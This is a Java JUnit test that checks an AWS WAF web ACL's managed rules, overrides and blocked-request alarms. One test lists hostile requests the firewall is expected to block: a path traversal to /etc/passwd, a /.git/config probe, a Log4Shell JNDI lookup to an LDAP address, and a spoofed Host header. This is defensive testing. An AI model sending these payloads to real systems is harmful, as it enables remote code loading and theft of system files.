package io.towncrier.infra;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/** Nobody is refused at the edge for what the service itself accepts. */
final class FirewallTest {
  // What browsers and the kit of apps send meets no rule, and is not to meet one.
  private static final Pattern HARMLESS = Pattern.compile("the page|the app kit");

  private final JsonNode firewall = Synthesized.home("eu").the("AWS::WAFv2::WebACL");

  @Test
  void noRequestOfAClientOfOursIsRefused() throws IOException {
    assertThat(ClientRequest.all())
        .hasSizeGreaterThan(12)
        .allSatisfy(
            request ->
                assertThat(ManagedRules.refusing(request, firewall)).as(request.name()).isEmpty());
  }

  @Test
  void eachOfTheseRequestsIsOneThatTheGroupsWouldRefuse() throws IOException {
    Set<String> met = new TreeSet<>();
    for (ClientRequest request : ClientRequest.all()) {
      Set<String> rules = ManagedRules.refusing(request, asItComes());
      assertThat(rules.isEmpty())
          .as(request.name())
          .isEqualTo(HARMLESS.matcher(request.name()).lookingAt());
      met.addAll(rules);
    }
    // Every rule that only counts does so for a request in the list, and for no other reason.
    assertThat(met).isEqualTo(counting());
  }

  @Test
  void whatNoClientSendsIsRefused() {
    for (ClientRequest attack :
        List.of(
            request("/v1/../../etc/passwd", Map.of("User-Agent", "x")),
            request("/.git/config", Map.of("User-Agent", "x")),
            request("/v1/${jndi:ldap://203.0.113.5/a}", Map.of("User-Agent", "x")),
            request("/v1/about", Map.of("User-Agent", "x", "Host", "localhost")))) {
      assertThat(ManagedRules.refusing(attack, firewall)).as(attack.path()).isNotEmpty();
    }
  }

  @Test
  void aRouterThatSomebodyHasTakenOverGetsItsUpdate() {
    for (JsonNode rule : firewall.path("Rules")) {
      assertThat(rule.path("OverrideAction").has("Count"))
          .as(rule.path("Name").asText())
          .isEqualTo(rule.path("Name").asText().equals("AWSManagedRulesAmazonIpReputationList"));
    }
  }

  @Test
  void somebodyIsToldWhenManyAreRefused() {
    for (String cell : List.of("eu", "us")) {
      Synthesized.Stack home = Synthesized.home(cell);
      JsonNode alarm = home.the("AWS::CloudWatch::Alarm");
      assertThat(alarm.path("MetricName").asText()).isEqualTo("BlockedRequests");
      assertThat(alarm.path("Dimensions").toString())
          .contains(
              home.the("AWS::WAFv2::WebACL").at("/VisibilityConfig/MetricName").asText(),
              "\"ALL\"");
      assertThat(alarm.at("/AlarmActions/0/Ref").asText())
          .isEqualTo(home.id("AWS::SNS::Topic", "RefusalsTopic"));
      assertThat(home.the("AWS::KMS::Key").path("KeyPolicy").toString())
          .contains("cloudwatch.amazonaws.com");
      assertThat(home.all("AWS::SNS::Subscription")).hasSize(1);
    }
    assertThat(Synthesized.home("cn").all("AWS::CloudWatch::Alarm")).isEmpty();
  }

  private Set<String> counting() {
    Set<String> counting = new TreeSet<>();
    for (JsonNode override : firewall.findValues("RuleActionOverrides")) {
      for (JsonNode rule : override) {
        assertThat(ManagedRules.knows(rule.path("Name").asText())).as(rule.toString()).isTrue();
        counting.add(rule.path("Name").asText());
      }
    }
    return counting;
  }

  /** The groups as AWS has made them. */
  private JsonNode asItComes() {
    JsonNode whole = firewall.deepCopy();
    whole
        .findParents("RuleActionOverrides")
        .forEach(group -> ((ObjectNode) group).remove("RuleActionOverrides"));
    return whole;
  }

  private static ClientRequest request(String path, Map<String, String> headers) {
    return new ClientRequest(path, "GET", path, Map.of(), headers, "");
  }
}
